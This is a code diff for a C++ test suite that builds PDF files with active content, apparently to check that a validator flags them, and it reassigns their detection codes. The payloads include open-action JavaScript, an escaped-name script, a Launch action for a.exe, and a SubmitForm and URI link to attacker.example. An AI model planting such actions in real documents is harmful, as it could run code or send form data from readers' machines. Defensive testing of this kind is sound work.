@@ -7,8 +7,6 @@
 namespace yinxin::attacks {
 namespace {
 
-constexpr const char* active = "pdf.active";
-
 std::string sealed(FreshCopy& copy, const Bodies& bodies) {
     return seal(put_together(bodies, copy.parts().trailer()), copy.signed_by_us());
 }
@@ -81,38 +79,57 @@ std::string with_script_update(const PdfParts& parts) {
 Attacks active_content(FreshCopy& copy) {
     const std::string script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
     return {
-        hostile("script_on_opening", with_catalog_entry(copy, "/OpenAction" + script), active),
+        hostile("script_on_opening",
+                with_catalog_entry(copy, "/OpenAction" + script),
+                "pdf.active.script"),
         hostile("script_by_name",
                 with_catalog_entry(copy, "/Names<</JavaScript<</Names[(a) " + script + "]>>>>"),
-                active),
+                "pdf.active.script"),
         hostile("script_with_escaped_name",
                 with_catalog_entry(copy, "/OpenAction<</S/Java#53cript/JS(app.alert\\(1\\))>>"),
-                active),
-        hostile("script_on_closing", with_catalog_entry(copy, "/AA<</WC" + script + ">>"), active),
-        hostile("script_on_the_page", with_page_entry(copy, "/AA<</O" + script + ">>"), active),
-        hostile("launch", with_catalog_entry(copy, "/OpenAction<</S/Launch/F(a.exe)>>"), active),
+                "pdf.active.script"),
+        hostile("script_on_closing",
+                with_catalog_entry(copy, "/AA<</WC" + script + ">>"),
+                "pdf.active.script"),
+        hostile("script_on_the_page",
+                with_page_entry(copy, "/AA<</O" + script + ">>"),
+                "pdf.active.script"),
+        hostile("launch",
+                with_catalog_entry(copy, "/OpenAction<</S/Launch/F(a.exe)>>"),
+                "pdf.active.launch"),
         hostile(
             "submit",
             with_annotation(copy, "/Subtype/Link/A<</S/SubmitForm/F(http://attacker.example/)>>"),
-            active),
-        hostile(
-            "import", with_annotation(copy, "/Subtype/Link/A<</S/ImportData/F(a.fdf)>>"), active),
-        hostile("link",
-                with_annotation(copy, "/Subtype/Link/A<</S/URI/URI(http://attacker.example/)>>"),
-                active),
+            "pdf.active.submit"),
+        hostile("import",
+                with_annotation(copy, "/Subtype/Link/A<</S/ImportData/F(a.fdf)>>"),
+                "pdf.active.import"),
         hostile("other_file",
                 with_catalog_entry(copy, "/OpenAction<</S/GoToR/F(a.pdf)/D[0/Fit]>>"),
-                active),
-        hostile(
-            "rich_media", with_annotation(copy, "/Subtype/RichMedia/RichMediaContent<<>>"), active),
-        hostile("movie", with_annotation(copy, "/Subtype/Movie/Movie<</F(a.avi)>>"), active),
-        hostile("attachment", with_attachment(copy), active),
-        hostile("attachment_on_the_page",
-                with_annotation(copy, "/Subtype/FileAttachment/FS<</F(a)>>"),
-                active),
-        hostile("dynamic_form", with_catalog_entry(copy, "/NeedsRendering true"), active),
-        hostile("layer", with_layer(copy), active),
-        fooling(hostile("script_by_update", with_script_update(copy.parts()), active)),
+                "pdf.active.other_file"),
+        hostile("rich_media",
+                with_annotation(copy, "/Subtype/RichMedia/RichMediaContent<<>>"),
+                "pdf.active.media"),
+        hostile("movie",
+                with_annotation(copy, "/Subtype/Movie/Movie<</F(a.avi)>>"),
+                "pdf.active.media"),
+        hostile("dynamic_form",
+                with_catalog_entry(copy, "/NeedsRendering true"),
+                "pdf.active.dynamic_form"),
+        fooling(hostile("script_by_update", with_script_update(copy.parts()), "pdf.active.script")),
+    };
+}
+
+Attacks waiting_content(FreshCopy& copy) {
+    const std::string link = "/Subtype/Link/A<</S/URI/URI(http://attacker.example/)>>";
+    const std::string attachment = "/Subtype/FileAttachment/FS<</F(a)>>";
+    return {
+        lawful("link", with_annotation(copy, link), "pdf.active.link"),
+        lawful("attachment", with_attachment(copy), "pdf.active.embedded_file"),
+        lawful("attachment_on_the_page",
+               with_annotation(copy, attachment),
+               "pdf.active.embedded_file"),
+        lawful("layer", with_layer(copy), "pdf.active.layers"),
     };
 }
 
